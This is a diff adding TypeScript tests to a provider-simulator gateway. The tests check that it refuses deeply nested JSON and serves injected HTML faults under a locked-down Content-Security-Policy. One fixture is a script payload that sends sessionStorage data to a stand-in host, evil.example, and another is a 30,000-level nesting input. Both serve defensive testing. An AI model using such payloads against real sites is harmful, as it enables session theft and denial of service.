@@ -51,6 +51,9 @@ function gateway() {
   return { app, control, state, deliveries, answers, jumps, pass };
 }
 
+/** JSON lists in lists. */
+const nested = (levels: number): string => "[".repeat(levels) + "]".repeat(levels);
+
 async function served() {
   const made = gateway();
   const server = await serve((request) => made.app.fetch(request));
@@ -157,6 +160,19 @@ describe("the control API", () => {
     const response = await gateway().control("POST", path, body);
     expect(response.status).toBe(400);
     expect(await response.json()).toMatchObject({ error: "Validation error" });
+  });
+
+  test.each([
+    ["/faults", `{"provider":"meta","fault":{"kind":"status","status":200,"body":{"a":_}}}`],
+    ["/templates", `{"name":"a","language":"en","components":[{"type":"BODY","text":"x","a":_}]}`],
+  ])("refuses POST %s with what is nested too deeply to be shown again", async (path, body) => {
+    const { control, state } = gateway();
+    const before = await state();
+    const response = await control("POST", path, body.replace("_", nested(30_000)));
+    expect(response.status).toBe(400);
+    expect(await response.json()).toMatchObject({ error: "Validation error" });
+    expect(await state()).toEqual({ ...before, now: expect.any(String) });
+    expect((await control("POST", path, body.replace("_", nested(20)))).status).toBe(201);
   });
 
   test("adds templates, a fault, and forgets them", async () => {
@@ -281,6 +297,31 @@ describe("the providers over HTTP", () => {
     expect(paging.next.startsWith(`${providers}/meta/v25.0/1/message_templates?`)).toBe(true);
     const second = (await (await fetch(paging.next, { headers })).json()) as { data: unknown[] };
     expect(second.data).toHaveLength(1);
+  });
+
+  test("refuse what is nested too deeply to be shown again", async () => {
+    const { app, state } = gateway();
+    const numbers = '"from_number":"+12025550100","to_number":"+12025550101"';
+    const call = (metadata: string) =>
+      app.request("/simulator/providers/w1/retell/v2/create-phone-call", {
+        method: "POST",
+        headers: { authorization: "Bearer key_1" },
+        body: `{${numbers},"metadata":${metadata}}`,
+      });
+    expect((await call(`{"a":${nested(30_000)}}`)).status).toBe(400);
+    expect((await state()).calls).toEqual([]);
+    expect((await call(`{"a":${nested(20)}}`)).status).toBe(201);
+  });
+
+  test("answer with no page that a browser would run, whatever a fault says", async () => {
+    const { app, control } = gateway();
+    const page = "<script>fetch('https://evil.example/' + sessionStorage.key)</script>";
+    const headers = { "content-type": "text/html", "Content-Security-Policy": "script-src *" };
+    const fault = { kind: "status", status: 200, body: page, headers };
+    expect((await control("POST", "/faults", { provider: "meta", fault })).status).toBe(201);
+    const answer = await app.request("/simulator/providers/w1/meta/v25.0/1");
+    expect(await answer.text()).toBe(page);
+    expect(answer.headers.get("content-security-policy")).toBe("default-src 'none'; sandbox");
   });
 
   test("take Meta's messages, and break connections when asked", async () => {
